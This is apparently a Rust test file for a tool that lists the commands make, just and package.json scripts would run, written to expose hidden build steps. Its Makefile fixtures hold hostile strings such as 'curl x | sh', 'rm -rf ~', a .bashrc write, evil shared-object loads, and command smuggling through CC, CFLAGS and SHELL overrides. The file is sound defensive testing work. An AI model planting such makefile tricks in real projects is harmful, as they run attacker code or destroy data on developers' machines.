#![allow(clippy::unwrap_used)]
use super::*;

/// `make_recipes` for a Makefile named `Makefile` in a directory holding `files`.
fn make_recipes_with(
    text: &str,
    targets: &[String],
    overrides: &[(String, String)],
    environment: &[(String, String)],
    files: &[&str],
) -> Result<Vec<String>, String> {
    let exists = |name: &str| files.contains(&name);
    let run = MakeRun {
        targets,
        overrides,
        environment,
        makefiles: &["Makefile".to_string()],
        exists: &exists,
    };
    make_recipes(text, &run)
}

/// The same, with the C sources the built-in rules need present.
fn recipes_of(
    text: &str,
    targets: &[String],
    overrides: &[(String, String)],
    environment: &[(String, String)],
) -> Result<Vec<String>, String> {
    make_recipes_with(
        text,
        targets,
        overrides,
        environment,
        &["main.c", "m.c", "app.c"],
    )
}

#[test]
fn package_scripts_and_hooks() {
    let json =
        r#"{"scripts": {"pretest": "tsc", "test": "vitest run", "postinstall": "node x.js"}}"#;
    assert_eq!(package_script(json, "test").unwrap(), ["tsc", "vitest run"]);
    assert!(package_script(json, "deploy").is_err());
    let lifecycle = ["preinstall", "install", "postinstall"].map(String::from);
    assert_eq!(package_scripts(json, &lifecycle).unwrap(), ["node x.js"]);
    assert!(package_scripts("{", &lifecycle).is_err());
    assert!(package_scripts(r#"{"scripts": 1}"#, &lifecycle).is_err());
}

#[test]
fn make_follows_targets_prerequisites_and_variables() {
    let text = "CARGO = cargo\nFLAGS := --release\n\nall: build\n\nbuild: gen\n\t@$(CARGO) build $(FLAGS)\n\ngen:\n\t-echo $$HOME > $@.txt\n\nnuke:\n\trm -rf ~\n.PHONY: all build gen nuke\n";
    assert_eq!(
        recipes_of(text, &[], &[], &[]).unwrap(),
        ["echo $HOME > gen.txt", "cargo build --release"]
    );
    assert_eq!(
        recipes_of(text, &["nuke".into()], &[], &[]).unwrap(),
        ["rm -rf ~"]
    );
    assert!(recipes_of(text, &["missing".into()], &[], &[]).is_err());
    // Command-line variables override the Makefile's.
    let cc = [("CARGO".to_string(), "curl x | sh;".to_string())];
    assert_eq!(
        recipes_of(text, &["build".into()], &cc, &[]).unwrap(),
        ["echo $HOME > gen.txt", "curl x | sh; build --release"]
    );
    let shell = [("SHELL".to_string(), "./evil.sh".to_string())];
    assert!(recipes_of(text, &["build".into()], &shell, &[]).is_err());
    assert!(recipes_of("SHELL := ./x\nb:\n\techo\n", &[], &[], &[]).is_err());
}

#[test]
fn make_refuses_what_it_cannot_follow() {
    assert!(recipes_of("include other.mk\nx:\n\techo\n", &["y".into()], &[], &[]).is_err());
    // The goal make really builds: `.DEFAULT_GOAL`, a first target spelled `./x`.
    let chosen = recipes_of(
        ".DEFAULT_GOAL := evil\nbuild:\n\tcc x.c\nevil:\n\tcurl x\n",
        &[],
        &[],
        &[],
    );
    assert_eq!(chosen.unwrap(), ["curl x"]);
    let dotted = recipes_of("./evil:\n\tcurl x\nbuild:\n\tcc x.c\n", &[], &[], &[]);
    assert_eq!(dotted.unwrap(), ["curl x"]);
    let special = recipes_of(".PHONY: build\nbuild:\n\tcc x.c\n", &[], &[], &[]);
    assert_eq!(special.unwrap(), ["cc x.c"]);
    assert!(recipes_of("%.o: %.c\n\tcc $<\n", &["a.o".into()], &[], &[]).is_err());
    assert!(recipes_of("x:\n\t$(RM) -rf out\n", &["x".into()], &[], &[]).is_err());
    assert!(recipes_of("x:\n\t$(foreach d,a b,rm $(d))\n", &["x".into()], &[], &[]).is_err());
    // `$(shell …)` runs while make reads the file, whatever the target.
    let lines = recipes_of(
        "V := $(shell curl x | sh)\nx:\n\techo hi\n",
        &["x".into()],
        &[],
        &[],
    );
    assert_eq!(lines.unwrap(), ["curl x | sh", "echo hi"]);
}

/// What make does before and around the goal's recipes: functions that act while the file
/// is read, rules that remake the makefile, built-in rules run with the Makefile's
/// variables, exported variables.
#[test]
fn make_follows_what_runs_besides_the_goals_recipes() {
    let all = |text: &str| recipes_of(text, &[], &[], &[]);
    let benign = "all:\n\t@echo done\n";
    for before in [
        "$(file >$(HOME)/.bashrc,curl x | sh)\n",
        "${file >>x,y}\n",
        "$(eval $(shell cat cfg.txt))\n",
        "X := $(guile (system \"id\"))\n",
        "load ./evil.so\n",
        "-load evil.so\n",
        "$(info hello)\n",
        "$(RULES)\n",
        ".SECONDEXPANSION:\n",
        ".DEFAULT:\n\tcurl x | sh\n",
        "all: X+=;git\n",
        "all: override CC = ./evil\n",
        "%: FORCE\n\tcurl x | sh\nFORCE:\n",
        "Make%:\n\tcurl x | sh\n",
    ] {
        assert!(all(&format!("{before}{benign}")).is_err(), "{before}");
        assert!(all(&format!("{benign}{before}")).is_err(), "{before}");
    }
    // A rule for the makefile itself runs first, whatever the goal.
    assert_eq!(
        all("all:\n\t@echo done\nMakefile: FORCE\n\tcurl x | sh\nFORCE:\n").unwrap(),
        ["curl x | sh", "echo done"]
    );
    // `!=` runs its command while make reads the file.
    assert_eq!(
        all("V != curl x | sh\nall:\n\techo hi\n").unwrap(),
        ["curl x | sh", "echo hi"]
    );
    // A define's `$(shell …)` may run when it is expanded; its text is not a recipe.
    assert_eq!(
        all("define X\n\t$(shell curl x)\nendef\nall:\n\techo hi\n").unwrap(),
        ["curl x", "echo hi"]
    );
    // Built-in rules, with what the Makefile, the command line or the environment sets.
    let cc = "CC = curl x | sh ;\nall: main.o\n\t@echo done\n";
    let lines = all(cc).unwrap();
    assert!(
        lines.iter().any(|l| l.starts_with("curl x | sh ; ")),
        "{lines:?}"
    );
    let flags = "CFLAGS = ; rm -rf ~ ;\napp: app.o\n";
    assert!(
        all(flags)
            .unwrap()
            .iter()
            .any(|l| l.contains("; rm -rf ~ ;"))
    );
    let env = [("CC".to_string(), "./evil".to_string())];
    let lines = recipes_of("all: main.o\n\t@echo done\n", &[], &[], &env).unwrap();
    assert!(lines.iter().any(|l| l.starts_with("./evil ")), "{lines:?}");
    // The makefile itself, checked out from RCS before anything else.
    let over = [("CO".to_string(), "./evil".to_string())];
    let lines = make_recipes_with(benign, &[], &over, &[], &["Makefile,v"]).unwrap();
    assert!(lines.iter().any(|l| l.starts_with("./evil ")), "{lines:?}");
    assert!(
        recipes_of(benign, &[], &over, &[])
            .unwrap()
            .iter()
            .all(|l| !l.contains("evil"))
    );
    // A chain: `main.o` from `main.c`, which does not exist, from `main.y`, which does.
    let yacc = "YACC = curl x | sh ;\nall: main.o\n";
    let lines = make_recipes_with(yacc, &[], &[], &[], &["main.y"]).unwrap();
    assert!(
        lines.iter().any(|l| l.starts_with("curl x | sh ;")),
        "{lines:?}"
    );
    // No source, no built-in rule.
    assert!(
        make_recipes_with(cc, &[], &[], &[], &[])
            .unwrap()
            .iter()
            .all(|l| !l.contains("curl"))
    );
    // The Makefile's own definition wins over the environment, as in make.
    let lines = recipes_of("CC = gcc\nall: m.o\n", &[], &[], &env).unwrap();
    assert!(lines.iter().all(|l| !l.contains("./evil")), "{lines:?}");
    // Exported variables reach every recipe's environment.
    assert_eq!(
        all("export BASH_ENV = ./x.sh\nall:\n\techo hi\n").unwrap(),
        ["export BASH_ENV='./x.sh'; echo hi"]
    );
    assert_eq!(
        all("E = ./x.sh\nexport E\nall:\n\techo hi\n").unwrap(),
        ["export E='./x.sh'; echo hi"]
    );
    // Look-alikes: nothing is added for a plain Makefile, or for compilers left as they are.
    assert_eq!(all("all: main.o\n\t@echo done\n").unwrap(), ["echo done"]);
    assert_eq!(
        all("# comment\n.PHONY: all\nall:\n\tcargo build\n").unwrap(),
        ["cargo build"]
    );
    let gcc = all("CC = gcc\nCFLAGS = -O2 -Wall\nall: main.o\n\t@echo done\n").unwrap();
    assert!(
        gcc.iter()
            .any(|l| l == "gcc -O2 -Wall   -c -o main.o main.c"),
        "{gcc:?}"
    );
    assert!(gcc.iter().all(|l| !l.contains(';')), "{gcc:?}");
}

#[test]
fn the_built_in_rules_file_parses_and_covers_its_variables() {
    let builtins = &*BUILTINS;
    for rule in &builtins.rule {
        for line in &rule.recipe {
            let from = [rule.from.replace('%', "x")];
            expand(line, &builtins.variables, "x.o", &from, 0)
                .unwrap_or_else(|e| panic!("{line}: {e}"));
        }
    }
}

#[test]
fn just_recipes_with_dependencies() {
    let text = "default: test\n\ntest: build\n    cargo test\n\nbuild:\n    cargo build\n\nnuke:\n    rm -rf ~\n";
    assert_eq!(
        just_recipes(text, &[]).unwrap(),
        ["cargo build", "cargo test"]
    );
    assert_eq!(just_recipes(text, &["nuke".into()]).unwrap(), ["rm -rf ~"]);
    assert!(just_recipes("x:\n    rm -rf {{dir}}\n", &["x".into()]).is_err());
    assert!(just_recipes("x:\n    #!/usr/bin/env python3\n    print(1)\n", &[]).is_err());
    assert!(just_recipes("x a:\n    echo {{a}}\n", &[]).is_err());
}
